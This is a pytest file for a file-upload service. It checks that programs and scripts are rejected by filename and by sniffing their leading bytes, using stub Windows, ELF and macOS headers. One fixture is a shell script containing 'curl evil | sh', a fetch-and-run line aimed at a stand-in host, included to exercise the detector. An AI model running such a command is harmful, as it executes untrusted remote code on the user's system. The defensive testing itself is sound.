"""Issue 26: a Thing's files are 3D models, images, documents or archives (rules.FILE_TYPES); programs
and scripts are refused before the upload starts (by name) and again at finalize (by their first bytes),
whatever they are called."""
import struct

import pytest

from tests.support.api import assert_error
from apps.things.tests.factories import ThingFactory
from apps.uploads import rules, store
from apps.uploads.models import ThingFile, Upload
from apps.uploads.tests.upload_helpers import stl_bytes, upload_started

pytestmark = pytest.mark.django_db


@pytest.fixture
def thing(user):
    return ThingFactory(creator=user)


def _windows_program() -> bytes:
    dos = bytearray(b"MZ" + b"\0" * 126)
    dos[60:64] = struct.pack("<I", 128)  # e_lfanew: where the PE header is
    return bytes(dos) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200


def test_an_exe_is_refused_before_the_upload_starts(api, thing):
    response = api.post(f"/things/{thing.pk}/files", {"filename": "free-stl-viewer.exe"}, format="json")

    body = assert_error(response, 400, "VALIDATION_FAILED")
    message = body["errors"]["filename"][0]
    assert message == ("Programs and scripts (.exe) cannot be uploaded. A Thing's files may be 3D models (stl, "
                       "3mf, obj, step...), images, documents (pdf, txt...) or archives (zip...): docs/uploads.md.")
    assert not Upload.objects.exists()


@pytest.mark.parametrize("name", ["setup.sh", "macro.JS", "tool.bat", "readme", "page.html"])
def test_other_refused_names(api, thing, name):
    response = api.post(f"/things/{thing.pk}/files", {"filename": name}, format="json")

    assert "cannot be uploaded" in assert_error(response, 400, "VALIDATION_FAILED")["errors"]["filename"][0]


@pytest.mark.parametrize("name", ["bracket.STL", "plate.3mf", "part.step", "manual.pdf", "parts.zip",
                                  "photo.jpg", "print.gcode"])
def test_models_documents_archives_and_images_start(api, thing, name):
    assert api.post(f"/things/{thing.pk}/files", {"filename": name}, format="json").status_code == 200


@pytest.mark.parametrize("content, what", [
    (_windows_program(), "a Windows program"),
    (b"\x7fELF\x02\x01\x01" + b"\0" * 60, "an ELF program"),
    (b"\xcf\xfa\xed\xfe" + b"\0" * 60, "a macOS program"),
    (b"#!/bin/sh\ncurl evil | sh\n", "a script"),
])
def test_a_program_named_as_a_model_is_refused_at_finalize(api, s3, user, thing, content, what):
    upload = upload_started(owner=user, target_id=thing.pk, filename="bracket.stl")
    store.put(upload.key, content)

    response = api.post(f"/files/{upload.pk}/finalize")

    body = assert_error(response, 400, "UPLOAD_FAILED")
    assert f"the file is {what}; programs and scripts cannot be uploaded" in body["error"] + response["X-Error"]
    upload.refresh_from_db()
    assert upload.status == Upload.Status.FAILED and what in upload.error
    assert not ThingFile.objects.exists()
    assert store.head(rules.stored_key(upload.key)) is None  # the frozen copy is gone


def test_a_binary_stl_whose_header_starts_with_mz_is_not_a_program(api, s3, user, thing,
                                                                   django_capture_on_commit_callbacks):
    data = stl_bytes()
    data = b"MZ model exported".ljust(80, b" ") + data[80:]
    upload = upload_started(owner=user, target_id=thing.pk, filename="bracket.stl")
    store.put(upload.key, data)

    with django_capture_on_commit_callbacks(execute=True):
        assert api.post(f"/files/{upload.pk}/finalize").status_code == 200
    assert ThingFile.objects.filter(thing=thing).count() == 1


@pytest.mark.parametrize("head, expected", [
    (b"MZ" + b"\0" * 100, None),  # MZ without its PE header
    (b"solid cube\n", None),
    (b"PK\x03\x04", None),
    (b"#!", "a script"),
])
def test_content_sniffing_rules(head, expected):
    assert rules.content_executable_kind(head) == expected
